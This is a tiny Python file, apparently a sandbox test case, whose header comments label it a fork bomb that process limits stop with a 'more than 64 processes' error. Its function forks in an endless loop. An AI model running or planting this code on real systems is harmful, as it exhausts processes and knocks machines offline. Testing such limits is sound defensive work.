# does: a fork bomb
# stopped by: limits
# status: error
# says: more than 64 processes
import os


def mix(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
